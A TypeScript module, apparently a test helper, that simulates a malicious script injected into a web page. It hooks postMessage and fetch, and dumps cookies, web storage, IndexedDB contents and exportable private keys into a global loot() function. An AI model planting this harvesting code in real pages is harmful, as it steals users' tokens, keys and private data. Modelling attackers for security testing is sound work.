/** A script that got into the page and is after its tokens: it was there first, and looks wherever a script can look. */

/** Everything it saw, as text. */
export interface Loot {
  readonly storage: string
  readonly globals: string
  /** Between windows, tabs, workers and ports, both ways. */
  readonly messages: string
  /** Sent by fetch of this page, and answered. */
  readonly requests: string
}

const messages: unknown[] = []
const requests: string[] = []

function overhear(event: Event): void {
  if (event instanceof MessageEvent) messages.push(event.data)
}

// Whoever speaks or listens does it through functions that were changed before.
for (const { prototype } of [Worker, MessagePort, BroadcastChannel]) {
  const { postMessage } = prototype as MessagePort
  Object.assign(prototype, {
    postMessage(this: MessagePort, ...args: Parameters<typeof postMessage>) {
      messages.push(args[0])
      this.addEventListener('message', overhear)
      return postMessage.apply(this, args)
    },
  })
}
addEventListener('message', overhear)

const { fetch } = globalThis
globalThis.fetch = async (input, init) => {
  const request = new Request(input, init)
  requests.push(await request.clone().text(), JSON.stringify([...request.headers]))
  const response = await fetch(request)
  requests.push(await response.clone().text())
  return response
}

Object.assign(globalThis, {
  async loot(): Promise<Loot> {
    return {
      storage: textOf([{ ...localStorage }, { ...sessionStorage }, document.cookie, await databases()]),
      globals: textOf(globalThis),
      messages: textOf(messages),
      requests: requests.join('\n'),
    }
  },
})

async function databases(): Promise<unknown[]> {
  const all: unknown[] = []
  for (const { name = '' } of await indexedDB.databases()) {
    const database = await finished(indexedDB.open(name))
    for (const store of database.objectStoreNames) {
      const objects = database.transaction(store).objectStore(store)
      for (const value of await finished(objects.getAll())) all.push(value, await exported(value))
    }
    database.close()
  }
  return all
}

function finished<T>(request: IDBRequest<T>): Promise<T> {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result)
    request.onerror = () => reject(request.error)
  })
}

/** The private key, if the browser gives it away. */
async function exported(value: unknown): Promise<unknown> {
  const { privateKey = value } = (value ?? {}) as { privateKey?: unknown }
  if (!(privateKey instanceof CryptoKey)) return undefined
  return crypto.subtle.exportKey('jwk', privateKey).catch(String)
}

/** All text that can be reached from a value, without calling anything. */
function textOf(root: unknown): string {
  const seen = new Set<unknown>()
  const found: string[] = []
  const waiting = [root]
  while (waiting.length > 0) {
    const value = waiting.pop()
    if (typeof value === 'string') found.push(value)
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value))
      continue
    seen.add(value)
    if (value instanceof Map || value instanceof Set) waiting.push(...value.keys(), ...value.values())
    for (const key of Reflect.ownKeys(value)) {
      const { value: inner } = Reflect.getOwnPropertyDescriptor(value, key) ?? {}
      waiting.push(inner)
    }
  }
  return found.join('\n')
}
